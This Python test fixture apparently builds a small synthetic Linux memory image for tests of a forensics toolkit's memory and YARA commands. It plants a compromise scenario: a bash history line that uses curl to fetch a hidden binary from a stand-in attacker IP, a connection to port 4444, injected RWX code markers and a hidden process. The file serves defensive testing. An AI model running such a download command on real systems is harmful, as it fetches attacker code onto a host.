"""A small host's memory (seven tasks, one hidden, one with injected code), written by labkit's
memory writer into a case folder, for the tests of `labkit mem` and `labkit yara scan`.

The spec is the single source of truth the tests compare the real volatility3 CLI against.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

from labkit.evidence.memory.spec import (
    Injected,
    KernelBuild,
    MemFile,
    MemoryImageResult,
    MemoryImageSpec,
    MemProcess,
    MemSocket,
    OpenFile,
)
from labkit.evidence.memory.writer import write_memory_image

BOOT = datetime(2026, 3, 2, 8, 0, tzinfo=UTC)
KERNEL = KernelBuild(
    "5.15.0-91-generic",
    "Linux version 5.15.0-91-generic (buildd@lcy02-amd64-045) (gcc (Ubuntu 11.4.0-1ubuntu1~22.04) 11.4.0, "
    "GNU ld (GNU Binutils for Ubuntu) 2.38) #101-Ubuntu SMP Tue Nov 14 13:30:08 UTC 2023 "
    "(Ubuntu 5.15.0-91.101-generic 5.15.131)\n",
)
LIBC = "/usr/lib/x86_64-linux-gnu/libc.so.6"
HEAP_MARKER = b"HEAP-MARKER-BASH-1340"
INJECTED = b"\x48\x31\xc0" + b"INJECTED-MARKER-1402"
HIDDEN_MARKER = b"HIDDEN-MARKER-1500"
MARKER_RULES = """\
rule markers {
    strings: $b = "HEAP-MARKER-BASH-1340" $i = "INJECTED-MARKER-1402" $h = "HIDDEN-MARKER-1500"
    condition: any of them
}
"""


def at(minutes: float) -> datetime:
    return BOOT + timedelta(minutes=minutes)


def small_spec(image_format: str = "raw") -> MemoryImageSpec:
    exe = lambda path, inode, size, **kw: MemFile(path, inode, size, 0o100755, **kw)  # noqa: E731
    files = [
        exe("/usr/lib/systemd/systemd", 1001, 1_800_000),
        exe("/usr/sbin/sshd", 1002, 900_000),
        exe("/usr/bin/bash", 1003, 1_400_000),
        exe("/tmp/.m", 1004, 50_000, deleted=True),
        exe(LIBC, 1005, 2_200_000),
        MemFile("/dev/null", 5, 0, 0o020666),
    ]
    sockets = [
        MemSocket(2001, "AF_INET", "STREAM", "LISTEN", "0.0.0.0", 22),
        MemSocket(2002, "AF_INET", "STREAM", "ESTABLISHED", "10.0.0.5", 22, "10.0.0.99", 51514),
        MemSocket(2003, "AF_INET", "STREAM", "ESTABLISHED", "10.0.0.5", 43122, "203.0.113.66", 4444),
    ]
    null = OpenFile(0, "/dev/null")
    processes = [
        MemProcess(1, 0, "systemd", at(0), argv=["/sbin/init"], exe="/usr/lib/systemd/systemd",
                   libraries=[LIBC]),
        MemProcess(2, 0, "kthreadd", at(0), kernel_thread=True),
        MemProcess(612, 1, "sshd", at(1), argv=["sshd: /usr/sbin/sshd -D"], exe="/usr/sbin/sshd",
                   libraries=[LIBC], files=[null, OpenFile(3, socket=2001)]),
        MemProcess(1337, 612, "sshd", at(30), argv=["sshd: ops [priv]"], exe="/usr/sbin/sshd",
                   libraries=[LIBC], files=[null, OpenFile(4, socket=2002)]),
        MemProcess(1340, 1337, "bash", at(31), uid=1000, gid=1000, argv=["-bash"], exe="/usr/bin/bash",
                   libraries=[LIBC], history=[(at(32), "curl -o /tmp/.m http://203.0.113.66/m")],
                   heap=[HEAP_MARKER]),
        MemProcess(1402, 1340, ".m", at(33), uid=1000, gid=1000, argv=["/tmp/.m", "-c", "203.0.113.66"],
                   exe="/tmp/.m", libraries=[LIBC], files=[null, OpenFile(3, socket=2003)],
                   injected=[Injected(INJECTED, "rwx", 4096)]),
        MemProcess(1500, 1, "kdevd", at(34), hidden=True, argv=["kdevd"], exe="/usr/bin/bash",
                   libraries=[LIBC], heap=[HIDDEN_MARKER]),
    ]  # fmt: skip
    return MemoryImageSpec(
        KERNEL, "pc01", BOOT, at(60), 64 << 20, 7, format=image_format,  # type: ignore[arg-type]
        files=files, sockets=sockets, processes=processes,
    )  # fmt: skip


@dataclass(frozen=True)
class MemoryCase:
    folder: Path  # the case folder
    image: Path  # case/evidence/pc01-memory.raw (or pc01.lime)
    spec: MemoryImageSpec
    result: MemoryImageResult


def build_memory_case(folder: Path, image_format: str = "raw") -> MemoryCase:
    """case/evidence/<image> and case/evidence/symbols/, as a trainee's case folder holds them."""
    evidence = folder / "evidence"
    (evidence / "symbols").mkdir(parents=True)
    (folder / "notes").mkdir()
    image = evidence / ("pc01-memory.raw" if image_format == "raw" else "pc01.lime")
    spec = small_spec(image_format)
    return MemoryCase(folder, image, spec, write_memory_image(spec, image, evidence / "symbols"))
